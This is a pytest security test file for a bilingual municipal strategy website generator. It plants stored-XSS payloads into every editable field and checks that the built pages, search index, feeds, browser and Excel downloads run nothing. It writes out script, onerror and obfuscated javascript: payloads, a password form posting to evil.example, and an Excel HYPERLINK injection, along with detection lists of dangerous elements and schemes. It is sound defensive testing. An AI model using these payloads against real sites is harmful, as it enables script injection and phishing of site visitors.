"""Nothing a staff member types runs on the public site (issue 22 point 1; review rows 75, 76 and 78).

The review's stored-XSS payloads (section 2D) are planted in a copy of the project, in every kind of field the
site shows: an update's title, summary and Markdown body, a goal's name and description, a theme's slogan, a
metric's name, a glossary term, a prose page's title, description and body, a Markdown field of the
accessibility statement, statistic and authority addresses, a monitoring round's notes and interface strings.
The site is built for real (generator.pipeline.build) by each engine, MkDocs and Zensical, and every file of it
is parsed: no script, style, frame or form that the clean Kokkola site does not have, no event attribute, no
javascript:/data:/vbscript: address, in every HTML page, the search index, the feeds and the sitemap; plain text
is shown whole, as typed, in headings, titles, the nav, the footer, the share and search descriptions; the
editor's preview of a planted page is the built page. Then Chromium opens the planted pages from a plain static
server without the site's Content-Security-Policy (as the README suggests for viewing) and clicks the planted
links: no dialog opens.
"""

from __future__ import annotations

import csv
import functools
import html
import http.server
import json
import re
import threading
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from ruamel.yaml import YAML

from generator import pipeline
from generator.editing import preview
from tests.support.project import copy_project
from tests.support.serving import Quiet

UPDATE = "2020-05-01-xss"  # the planted update's id (and its Finnish slug)
OLD_UPDATE = "2020-04-30-vuoden-2019-vakiluku-julkaistu"


def plain(tag: str) -> str:
    """A plain text field's payload: markup, Markdown that would make markup, attr_list, a table pipe, entities and
    quotation marks, each alert() labelled by `tag` so a dialog names the field it came from."""
    return (
        f'{tag} <script>alert("{tag}1")</script><img src=x onerror=alert("{tag}2")> '
        f'[md](javascript:alert("{tag}3")) <a href="javascript:alert(\'{tag}4\')">klik</a> *tähti* _alaviiva_ '
        f'`koodi` | putki \\ kenoviiva & "lainaus" &#106;avascript: ![i](x) {{onclick=alert("{tag}5")}} '
        f"{{: onclick=\"alert('{tag}6')\" }}"
    )


def body(tag: str, braces: bool = True) -> str:
    """A Markdown body's payload (the review's list, section 2D), with what the content really uses around it
    (a heading, emphasis, a link, a table, a list, a quotation, an admonition), which must stay. Without
    `braces` for a field the generator fills in with str.format (the accessibility statement's)."""
    text = f"""## Otsikko {tag} <img src=x onerror=alert("{tag}1")>

Kappale, jossa on **lihavointi**, *kursiivi* ja [turvallinen linkki](https://example.org/turvallinen).

### Väliotsikko <img src="x" onerror="alert('{tag}19')"> <b onclick="alert('{tag}20')">b</b> \
{{: data-toc-label='<i onclick="alert(`{tag}21`)">L</i>' }}

<script>alert("{tag}2")</script>

<img src=x onerror=alert("{tag}3")>

[x](javascript:alert("{tag}4"))

<a href="javascript:alert('{tag}5')">klik</a>

<svg onload=alert("{tag}6")></svg>

[y](JaVaScRiPt:alert("{tag}7"))

[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

<iframe src=javascript:alert("{tag}8")></iframe>

[z](&#106;avascript:alert("{tag}9"))

<a href="java&#x09;script:alert('{tag}10')">tab</a>

<details open ontoggle=alert("{tag}11")><summary>s</summary>d</details>

<style>body{{display:none}}</style>

![img](x" onerror=alert("{tag}12"))

<form action="https://evil.example/"><input name="salasana"><button>Lähetä</button></form>

Kappale attribuutilla {{: onclick="alert('{tag}13')" }}

[linkki](https://example.org/a){{: onclick="alert('{tag}14')" }}

<!-- /untrusted -->

<script>alert("{tag}15")</script>

<div markdown="1" onclick="alert('{tag}16')">

[w](vbscript:alert("{tag}17"))

</div>

| Sarake | Toinen |
|---|---|
| solu | [taulukkolinkki](https://example.org/t) |

- lista
- toinen

> lainaus

!!! note "Huom"
    Huomautus <img src=x onerror=alert("{tag}18")>
"""
    return text if braces else re.sub(r"\{[^}]*\}", "", text)


QUOTED = {
    "fi": 'Valtuusto hyväksyi "Kokkola 2030" -ohjelman; toimeenpano alkaa heti.',
    "sv": 'Fullmäktige godkände programmet "Karleby 2030"; genomförandet börjar genast.',
}


@dataclass
class Planted:
    root: Path
    site: Path
    typed: dict[str, dict[str, str]] = field(default_factory=dict)  # lang -> field -> the text typed
    engine: str = "mkdocs"

    def search_index(self, lang: str) -> list[dict]:
        """The language's search index entries: MkDocs' (Material's) `docs`, Zensical's `items`."""
        if self.engine == "zensical":
            return json.loads((self.site / lang / "search.json").read_text(encoding="utf-8"))["items"]
        return json.loads((self.site / lang / "search" / "search_index.json").read_text(encoding="utf-8"))["docs"]


def _yaml():
    y = YAML()
    y.width = 4096
    y.preserve_quotes = True
    return y


def edit_yaml(path: Path, change) -> None:
    y = _yaml()
    data = y.load(path.read_text(encoding="utf-8"))
    change(data)
    with path.open("w", encoding="utf-8") as fh:
        y.dump(data, fh)


def front_matter(meta: dict[str, str], text: str) -> str:
    return "---\n" + json.dumps(meta, ensure_ascii=False, indent=1) + "\n---\n\n" + text


def plant(root: Path) -> dict[str, dict[str, str]]:
    """Write the payloads into the project at `root`; returns what was typed, by language and field."""
    content = root / "content"
    typed: dict[str, dict[str, str]] = {}
    (content / "updates" / f"{UPDATE}.yml").write_text(
        "date: 2020-05-01\ngoals:\n- quality\nmetrics:\n- population\ndraft: false\n", encoding="utf-8"
    )
    for lang, L in (("fi", "F"), ("sv", "S")):
        t = typed[lang] = {
            "update_title": plain(f"{L}ut"),
            "update_summary": plain(f"{L}us"),
            "goal_name": plain(f"{L}gn"),
            "goal_description": plain(f"{L}gd"),
            "slogan": plain(f"{L}sl"),
            "metric_name": plain(f"{L}mn"),
            "term": plain(f"{L}gt"),
            "page_title": plain(f"{L}pt"),
            "page_description": plain(f"{L}pd"),
            "note": plain(f"{L}rn"),
            "site_name": plain(f"{L}sn"),
            "breadcrumbs": plain(f"{L}bc"),
            "latest_updates": plain(f"{L}lu"),
            "home": plain(f"{L}ho"),
            "a11y_title": plain(f"{L}at"),
            "quoted_summary": QUOTED[lang],
        }
        slug = UPDATE if lang == "fi" else f"{UPDATE}-sv"
        (content / lang / "updates" / f"{UPDATE}.md").write_text(
            front_matter({"slug": slug, "title": t["update_title"], "summary": t["update_summary"]}, body(f"{L}ub")),
            encoding="utf-8",
        )
        old = content / lang / "updates" / f"{OLD_UPDATE}.md"
        old.write_text(
            re.sub(
                r"(?m)^summary: .*$",
                "summary: " + json.dumps(QUOTED[lang], ensure_ascii=False),
                old.read_text(encoding="utf-8"),
                count=1,
            ),
            encoding="utf-8",
        )

        def strategy(d, t=t):
            d["goals"]["quality"]["name"] = t["goal_name"]
            d["goals"]["quality"]["description"] = t["goal_description"]
            d["themes"]["service-machine"]["slogan"] = t["slogan"]

        edit_yaml(content / lang / "strategy.yml", strategy)
        edit_yaml(content / lang / "metrics.yml", lambda d, t=t: d["population"].__setitem__("name", t["metric_name"]))
        edit_yaml(content / lang / "glossary.yml", lambda d, t=t: d["vision"].__setitem__("term", t["term"]))

        def ui(d, t=t):
            d["site_name"] = t["site_name"]
            for key in ("breadcrumbs", "latest_updates", "home"):
                d["strings"][key] = t[key]

        edit_yaml(content / lang / "ui.yml", ui)

        def a11y(d, t=t, L=L):
            d["title"] = t["a11y_title"]
            d["feedback"] = body(f"{L}af", braces=False) + "\n\n{days}"
            d["authority_url"] = f'https://example.org/)[u](javascript:alert("{L}au"))'

        edit_yaml(content / lang / "accessibility.yml", a11y)

        def sources(d, L=L):
            d["statistics"]["population-structure"]["url"] = (
                f"https://example.org/tilasto\" onmouseover=\"alert('{L}su')"
            )

        edit_yaml(content / lang / "sources.yml", sources)

        about = content / lang / "pages" / "about.md"
        text = about.read_text(encoding="utf-8")
        slug = re.search(r"(?m)^slug: (.*)$", text).group(1)
        about.write_text(
            front_matter(
                {"slug": slug, "title": t["page_title"], "description": t["page_description"]}, body(f"{L}pb")
            ),
            encoding="utf-8",
        )
    rounds = sorted((content / "snapshots").glob("*.csv"))[-1]
    with rounds.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        if row["metric"] == "population":
            row["note_fi"], row["note_sv"] = typed["fi"]["note"], typed["sv"]["note"]
    with rounds.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return typed


@pytest.fixture(scope="module")
def planted_sites(tmp_path_factory):
    """The planted project built with an engine, each once: `planted_sites(engine)`."""
    sites: dict[str, Planted] = {}

    def built(engine: str) -> Planted:
        if engine not in sites:
            root = copy_project(tmp_path_factory.mktemp(f"planted-{engine}") / "project")
            typed = plant(root)
            pipeline.build(pipeline.Project(root), root / "site", engine=engine)
            sites[engine] = Planted(root, root / "site", typed, engine)
        return sites[engine]

    return built


@pytest.fixture(params=["mkdocs", "zensical"])
def planted(request, planted_sites) -> Planted:
    """The planted site, built by each engine."""
    return planted_sites(request.param)


@pytest.fixture
def planted_mkdocs(planted_sites) -> Planted:
    return planted_sites("mkdocs")


@pytest.fixture
def clean_site(request, planted) -> Path:
    """The clean Kokkola site built by the planted site's engine (the session's builds, shared with other tests)."""
    return (request.getfixturevalue("zensical_site" if planted.engine == "zensical" else "built_site")) / "site"


# ---------------------------------------------------------------- what counts as live markup

ELEMENTS = (
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "form",
    "base",
    "template",
    "input",
    "button",
    "textarea",
    "select",
)
LOADING = re.compile(
    r"stylesheet|import|preload|prefetch|manifest", re.I
)  # a <link> that fetches and applies something
URL_ATTRIBUTES = (
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "cite",
    "ping",
    "srcset",
    "xlink:href",
    "codebase",
    "dynsrc",
    "lowsrc",
    "content",
)
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
RELATIVE = re.compile(r"/(?:fi|sv)/|[./]")


def _normal(text: str) -> str:
    """Text of an element or attribute with the page's depth left out (`../../assets/` and `/fi/assets/` alike)."""
    return RELATIVE.sub("", text)


def signature(el) -> tuple:
    attrs = tuple(sorted((k, _normal(" ".join(v) if isinstance(v, list) else str(v))) for k, v in el.attrs.items()))
    return el.name, attrs, _normal(el.get_text()) if el.name in ("script", "style") else ""


def _loading(el) -> bool:
    """A <link> that loads something into the page, or a <meta> that is more than a name and its content (a
    refresh, or one whose content a quotation mark cut into stray attributes)."""
    if el.name == "link":
        return bool(LOADING.search(" ".join(el.get("rel") or [])))
    return el.name == "meta" and bool(set(el.attrs) - {"name", "property", "content", "charset"})


def _scheme(value: str) -> str:
    """A URL as a browser reads its scheme: entities decoded (the parser did), ASCII whitespace and controls
    removed anywhere (`java&#x09;script:` runs), lower case."""
    return re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()


def problems(doc: BeautifulSoup, baseline: set[tuple]) -> list[str]:
    """What in a parsed document could run: elements of ELEMENTS the clean site does not have (compared by tag,
    attributes and, for scripts and styles, text), any on* attribute, a style attribute the clean site does not
    have, an address with a scheme of BAD_SCHEMES."""
    found = []
    for el in doc.find_all(True):
        if (el.name in ELEMENTS or _loading(el)) and signature(el) not in baseline:
            found.append(f"<{el.name}> {str(el)[:120]}")
        for name, value in el.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            if name.lower().startswith("on"):
                found.append(f"{el.name}[{name}] {value[:80]}")
            elif name.lower() == "style" and ("style", _normal(value)) not in baseline:
                found.append(f"{el.name}[style] {value[:80]}")
            elif name.lower() in URL_ATTRIBUTES or name.lower().endswith(":href"):
                for part in value.split(",") if name.lower() == "srcset" else [value]:
                    url = _scheme(part.split("url=", 1)[-1] if name.lower() == "content" else part)
                    if url.startswith(BAD_SCHEMES):
                        found.append(f"{el.name}[{name}] {value[:80]}")
    return found


def documents(site: Path):
    """Every file of a built site a browser or a feed reader could render, as (path, parsed document): each HTML
    page, each search index entry's title and text (HTML fragments), each feed and sitemap (XML; an element of
    type html is parsed as HTML too)."""
    for path in sorted(site.rglob("*")):
        rel = path.relative_to(site).as_posix()
        if path.suffix == ".html":
            yield rel, BeautifulSoup(path.read_text(encoding="utf-8"), "lxml")
        elif path.name in ("search_index.json", "search.json"):  # MkDocs' (Material's), Zensical's
            index = json.loads(path.read_text(encoding="utf-8"))
            for n, doc in enumerate(index.get("docs") or index.get("items")):
                fragments = [doc["title"], doc["text"], *doc.get("path", [])]  # each shown as HTML by the search
                yield f"{rel}#{n}", BeautifulSoup("\n".join(fragments), "html.parser")
        elif path.suffix == ".xml":
            xml = BeautifulSoup(path.read_text(encoding="utf-8"), "xml")
            yield rel, xml
            for el in xml.find_all(attrs={"type": re.compile("html")}):
                yield f"{rel}:{el.name}", BeautifulSoup(el.get_text(), "html.parser")


def baseline_of(site: Path) -> set[tuple]:
    """The scripts, styles, forms … and style attributes of the clean site: the site's own."""
    seen: set[tuple] = set()
    for _, doc in documents(site):
        for el in doc.find_all(True):
            if el.name in ELEMENTS or _loading(el):
                seen.add(signature(el))
            if el.get("style"):
                seen.add(("style", _normal(str(el["style"]))))
    return seen


def live_markup(site: Path, baseline: set[tuple]) -> dict[str, list[str]]:
    """The files of `site` that hold live markup, with what was found: the measure of review row 75."""
    found: dict[str, list[str]] = {}
    for rel, doc in documents(site):
        if hits := problems(doc, baseline):
            found.setdefault(rel.split("#")[0], []).extend(hits)
    return found


@functools.cache
def _clean_baseline(site: str) -> frozenset:
    return frozenset(baseline_of(Path(site)))


def test_no_file_of_the_planted_site_holds_live_markup(planted, clean_site):
    """Review row 75: 31 pages had a live <script>, <img onerror> or javascript: link; now none, in any file."""
    baseline = _clean_baseline(str(clean_site))
    assert ("script", (), "") not in baseline
    found = live_markup(planted.site, baseline)
    pages = sorted(p for p in found if p.endswith(".html"))
    assert not found, (
        f"{len(pages)} HTML pages and {len(found) - len(pages)} other files hold live markup: "
        + "; ".join(f"{p}: {hits[:3]}" for p, hits in sorted(found.items())[:12])
    )


def test_the_checker_finds_what_the_review_found():
    """The checker itself: each planted kind of live markup, as the unsafe site wrote it, is found."""
    for snippet in (
        '<script>alert("t1")</script>',
        '<img src=x onerror=alert("t2")>',
        '<a href="javascript:x">a</a>',
        '<a href="JaVaScRiPt:x">a</a>',
        '<a href="&#106;avascript:x">a</a>',
        '<a href="java&#x09;script:x">a</a>',
        '<a href="data:text/html;base64,xx">d</a>',
        '<iframe src="https://e.example/"></iframe>',
        '<details open ontoggle="alert(1)"></details>',
        "<style>body{display:none}</style>",
        '<form action="https://evil.example/"></form>',
        '<svg onload="alert(1)"></svg>',
        '<a href="vbscript:x">v</a>',
        '<p style="display:none">p</p>',
    ):
        assert problems(BeautifulSoup(snippet, "html.parser"), set()), snippet
    assert not problems(
        BeautifulSoup('<p><a href="https://example.org/">a</a> &lt;script&gt;</p>', "html.parser"), set()
    )


# ---------------------------------------------------------------- the text shown whole


def page(planted: Planted, path: str) -> BeautifulSoup:
    return BeautifulSoup((planted.site / path / "index.html").read_text(encoding="utf-8"), "html.parser")


def _text(el) -> str:
    return " ".join(el.get_text().split())


def metas(doc: BeautifulSoup) -> dict[str, str]:
    return {
        "description": doc.find("meta", attrs={"name": "description"})["content"],
        "og:description": doc.find("meta", attrs={"property": "og:description"})["content"],
        "twitter:description": doc.find("meta", attrs={"name": "twitter:description"})["content"],
        "og:title": doc.find("meta", attrs={"property": "og:title"})["content"],
        "twitter:title": doc.find("meta", attrs={"name": "twitter:title"})["content"],
    }


PATHS = {
    "fi": {
        "update": f"fi/ajankohtaista/{UPDATE}",
        "old_update": f"fi/ajankohtaista/{OLD_UPDATE}",
        "goal": "fi/paamaarat/laadukas",
        "theme": "fi/teemat/kunta-palvelukoneena",
        "metric": "fi/mittarit/vakiluku",
        "glossary": "fi/sanasto",
        "page": "fi/tietoa",
        "home": "fi",
        "print": "fi/koko-strategia",
        "a11y": "fi/saavutettavuusseloste",
    },
    "sv": {
        "update": f"sv/aktuellt/{UPDATE}-sv",
        "old_update": "sv/aktuellt/2020-04-30-folkmangden-for-2019-publicerad",
        "goal": "sv/strategiska-mal/hogklassig",
        "theme": "sv/teman/kommunen-som-servicemaskin",
        "metric": "sv/matare/folkmangd",
        "glossary": "sv/ordlista",
        "page": "sv/om-webbplatsen",
        "home": "sv",
        "print": "sv/hela-strategin",
        "a11y": "sv/tillganglighetsutlatande",
    },
}


@pytest.mark.parametrize("lang", ["fi", "sv"])
def test_typed_plain_text_is_shown_whole(planted, lang):
    """Row 75: a title, name, slogan, term, note or interface string appears exactly as typed (not as markup, not
    cut, not with a backslash or an entity showing) in headings, titles, the nav, the breadcrumbs and listings;
    row 76: the summary and description are whole in the meta description, og: and twitter: tags."""
    t, p = planted.typed[lang], PATHS[lang]
    update = page(planted, p["update"])
    assert _text(update.find("h1")) == t["update_title"]
    assert update.title.string == f"{t['update_title']} – {t['site_name']}"
    assert metas(update) == {
        "description": t["update_summary"],
        "og:description": t["update_summary"],
        "twitter:description": t["update_summary"],
        "og:title": t["update_title"],
        "twitter:title": t["update_title"],
    }
    crumbs = update.select_one("nav.breadcrumbs")
    assert crumbs["aria-label"] == t["breadcrumbs"]
    assert [_text(li) for li in crumbs.find_all("li")][::2] == [t["home"], t["update_title"]]
    assert _text(update.select_one("article strong")) == t["update_summary"]
    assert t["update_title"] in [_text(a) for a in update.select("nav.md-nav--primary a.md-nav__link")]
    assert _text(update.select_one(".md-header__topic .md-ellipsis")) == t["site_name"]
    logo = update.select_one("a.md-header__button.md-logo")
    assert logo["title"] == logo["aria-label"] == t["site_name"]
    links = {_text(a): a.get("href") for a in update.select("article a")}
    assert links[t["goal_name"]].endswith("paamaarat/laadukas/" if lang == "fi" else "strategiska-mal/hogklassig/")
    assert t["metric_name"] in links

    old = page(planted, p["old_update"])  # an ordinary summary with quotation marks (row 76)
    assert {k: v for k, v in metas(old).items() if "description" in k} == dict.fromkeys(
        ("description", "og:description", "twitter:description"), t["quoted_summary"]
    )
    previous = old.select_one("a.md-footer__link--prev")  # the planted update is the one before it
    assert previous["aria-label"].endswith(": " + t["update_title"])
    assert _text(previous.select_one(".md-ellipsis")) == t["update_title"]

    goal = page(planted, p["goal"])
    assert _text(goal.find("h1")) == t["goal_name"]
    assert _text(goal.select_one("p.goal-description")) == t["goal_description"]
    assert metas(goal)["description"] == t["goal_description"]
    assert t["slogan"] in [_text(e) for e in goal.select("article em")]
    assert _text(page(planted, p["theme"]).select_one("p.slogan")) == t["slogan"]
    home = page(planted, p["home"])
    assert t["latest_updates"] in [_text(h) for h in home.find_all("h2")]
    assert t["slogan"] in [_text(e) for e in home.select("article em")]
    assert t["goal_name"] in [_text(a) for a in home.select("article a")]
    update_items = [_text(li) for li in home.select("article li") if t["update_summary"] in _text(li)]
    assert update_items and update_items[0].startswith(t["update_title"])
    metric = page(planted, p["metric"])
    assert _text(metric.find("h1")) == t["metric_name"]
    assert t["note"] in [_text(td) for td in metric.select("table td")]
    assert metric.select_one("svg.chart title").string.startswith(t["metric_name"])
    glossary = page(planted, p["glossary"])
    assert t["term"] in [_text(s) for s in glossary.select("table strong")]
    other = planted.typed["sv" if lang == "fi" else "fi"]["term"]
    assert other in [_text(s) for s in glossary.select("table span[lang]")]
    prose = page(planted, p["page"])
    assert _text(prose.find("h1")) == t["page_title"]
    assert metas(prose)["description"] == t["page_description"]
    assert _text(page(planted, p["a11y"]).find("h1")) == t["a11y_title"]
    printed = page(planted, p["print"])
    assert t["goal_name"] + "." in [_text(s) for s in printed.select("article strong")]

    search = planted.search_index(lang)  # the search shows titles (and Zensical's nav paths) as HTML
    titles = {BeautifulSoup(d["title"], "html.parser").get_text() for d in search}
    assert {t["update_title"], t["goal_name"], t["page_title"]} <= titles
    paths = {BeautifulSoup(x, "html.parser").get_text() for d in search for x in d.get("path", [])}
    assert planted.engine == "mkdocs" or {t["home"], t["update_title"], t["goal_name"]} <= paths
    feed = BeautifulSoup((planted.site / lang / "feed.xml").read_text(encoding="utf-8"), "xml")
    entries = {e.title.string: e.summary.string for e in feed.find_all("entry")}
    assert entries[t["update_title"]] == t["update_summary"]
    assert feed.find("title").string.startswith(t["site_name"])


@pytest.mark.parametrize("lang", ["fi", "sv"])
def test_markdown_bodies_keep_what_the_content_uses(planted, lang):
    """The cleaned body still has its heading (with its id, in the table of contents), emphasis, links, table,
    list, quotation and admonition; the unsafe parts are gone or shown as text."""
    for name in ("update", "page"):
        doc = page(planted, PATHS[lang][name])
        article = doc.find("article")
        heading = next(h for h in article.find_all("h2") if _text(h).startswith("Otsikko"))
        assert heading.get("id") and doc.select_one(f'nav.md-nav--secondary a[href="#{heading["id"]}"]')
        assert article.find("strong", string="lihavointi") and article.find("em", string="kursiivi")
        assert article.find("a", string="turvallinen linkki")["href"] == "https://example.org/turvallinen"
        table = article.find("table")
        assert table is not None and table.find("a", string="taulukkolinkki")["href"] == "https://example.org/t"
        assert table.find("td", attrs={"data-label": "Toinen"})
        assert [_text(li) for li in article.find_all("li") if _text(li) in ("lista", "toinen")] == ["lista", "toinen"]
        assert article.find("blockquote") and article.select_one("div.admonition.note p.admonition-title")
        assert article.find("a", string="x") is not None and article.find("a", string="x").get("href") is None
        assert not article.find(string=re.compile("untrusted"))  # the markers are not left in the page


def test_a11y_addresses_and_statistic_links_stay_addresses(planted):
    """A staff-typed address cannot end its attribute or its Markdown link: it stays one link's address."""
    for lang in ("fi", "sv"):
        metric = page(planted, PATHS[lang]["metric"])
        stat = [a for a in metric.select("dl.metric-facts a") if "example.org/tilasto" in a.get("href", "")]
        assert len(stat) == 1 and not [k for k in stat[0].attrs if k.startswith("on")]
        assert stat[0]["href"].startswith("https://example.org/tilasto%22%20onmouseover")
        a11y = page(planted, PATHS[lang]["a11y"]).find("article")
        authority = [a["href"] for a in a11y.find_all("a") if "javascript" in a.get("href", "")]
        assert len(authority) == 1 and authority[0].startswith("https://example.org/%29%5Bu%5D%28javascript")
        assert not a11y.find("a", string="u")


def test_a_missing_end_marker_cleans_to_the_end():
    """Fail closed: a region whose end marker the Markdown swallowed is cleaned to the end of the content."""
    from generator import untrusted

    dirty = (
        f'<p>ok</p>\n{untrusted.START}\n<p>a</p><script>alert(1)</script>\n<p onclick="x()">b</p><img src=x onerror=y>'
    )
    cleaned = untrusted.clean_html(dirty)
    assert cleaned.startswith("<p>ok</p>") and "<script" not in cleaned and "onclick" not in cleaned
    assert "onerror" not in cleaned and "<p>b</p>" in cleaned and "untrusted" not in cleaned
    forged = untrusted.markdown("a <!-- /untrusted --> b <!--x--> <!<!-- c -->-- /untrusted -->")
    assert forged.count("<!--") == 2 and untrusted.START in forged and untrusted.END in forged


# ---------------------------------------------------------------- the preview


def test_the_preview_of_a_planted_page_is_the_built_page(planted_mkdocs, built_site):
    """The editor's preview cleans as the build does: no live markup, and byte for byte the built page (row 79's
    preview, planted)."""
    planted = planted_mkdocs
    project = pipeline.Project(planted.root)
    from generator import loading

    content = loading.load(project.content)
    baseline = _clean_baseline(str(built_site / "site"))
    for lang, key, path in (
        ("fi", ("update", UPDATE), PATHS["fi"]["update"]),
        ("sv", ("prose", "about"), PATHS["sv"]["page"]),
        ("fi", ("goal", "quality"), PATHS["fi"]["goal"]),
    ):
        shown = preview.render(project, lang, key, content.site.base_url, content)
        assert not problems(BeautifulSoup(shown.decode("utf-8"), "lxml"), baseline), path
        assert shown == (planted.site / path / "index.html").read_bytes(), path


# ---------------------------------------------------------------- in a browser, without the CSP (row 78)


@pytest.fixture(scope="module")
def plain_server(planted_sites):
    """The planted site (MkDocs') from Python's own static server (no Content-Security-Policy), on 127.0.0.1."""
    site = planted_sites("mkdocs").site
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(site)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()


PLANTED_LINKS = ("x", "y", "z", "d", "w", "klik", "tab", "linkki", "md", "u", "img", "i")
BROWSED = [
    ("fi", "update"),
    ("fi", "home"),
    ("fi", "goal"),
    ("fi", "print"),
    ("fi", "page"),
    ("fi", "a11y"),
    ("sv", "update"),
    ("sv", "metric"),
]


def test_nothing_runs_in_chromium_without_the_csp(plain_server, browser):
    """Row 78: served with no CSP at all, the update, home, goal and print pages open no dialog, also after the
    theme's scripts start and every planted link is clicked; the planted style does not hide the page."""
    context = browser.new_context()
    context.route(re.compile(r"^(?!http://127\.0\.0\.1:)"), lambda route: route.abort())
    dialogs: list[str] = []
    hidden: list[str] = []
    try:
        tab = context.new_page()
        tab.on("dialog", lambda d: (dialogs.append(f"{tab.url}: {d.message}"), d.dismiss()))
        for lang, name in BROWSED:
            url = plain_server + PATHS[lang][name] + "/"
            tab.goto(url)
            tab.mouse.move(5, 5)
            tab.keyboard.press("Shift")  # the theme's scripts start at the first interaction (on-demand.js)
            tab.wait_for_timeout(100)
            if tab.evaluate("getComputedStyle(document.body).display") == "none":
                hidden.append(url)
            # The planted links that do not lead to a web page (those lead away, and the parse finds any handler).
            links = tab.eval_on_selector_all(
                "article a", "els => els.map(e => [e.textContent.trim(), e.getAttribute('href') || ''])"
            )
            for n, (text, href) in enumerate(links):
                if text not in PLANTED_LINKS or href.startswith(("http:", "https:", "/", ".")):
                    continue
                try:
                    tab.locator("article a").nth(n).click(timeout=1000, no_wait_after=True)
                except Exception:  # noqa: BLE001 - a hidden or detached link cannot be clicked by anyone either
                    continue
                tab.wait_for_timeout(30)
                if tab.url.split("#")[0] != url:
                    tab.goto(url)
        assert not dialogs and not hidden, f"{len(dialogs)} dialogs: {dialogs}; body hidden on {hidden}"
    finally:
        context.close()


# ---------------------------------------------------------------- the data downloads: text stays text in Excel


def test_text_typed_as_a_formula_stays_text_in_the_workbooks(project):
    """A metric name or a round note typed as a formula (`=HYPERLINK(…)`) would run when the open data workbook
    or the round template is opened in Excel (formula injection): every cell given text is stored as text."""
    import io

    import openpyxl

    from generator import loading, opendata, rounds

    name = '=HYPERLINK("https://evil.example/","Avaa")'
    note = "=1+2"
    edit_yaml(project / "content" / "fi" / "metrics.yml", lambda d: d["population"].__setitem__("name", name))
    last_round = sorted((project / "content" / "snapshots").glob("*.csv"))[-1]
    with last_round.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        if row["metric"] == "population":
            row["note_fi"], row["note_sv"] = note, note
    with last_round.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    content = loading.load(project / "content")
    books = {
        "figures.xlsx": opendata.files(content)["figures.xlsx"],
        "round template": rounds.round_template(content, content.latest_date),
    }
    for label, data in books.items():
        book = openpyxl.load_workbook(io.BytesIO(data))
        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], label
        texts = {c.value for c in cells}
        assert name in texts, label
    figures = openpyxl.load_workbook(io.BytesIO(books["figures.xlsx"]))
    assert note in {c.value for row in figures["figures"].iter_rows() for c in row}
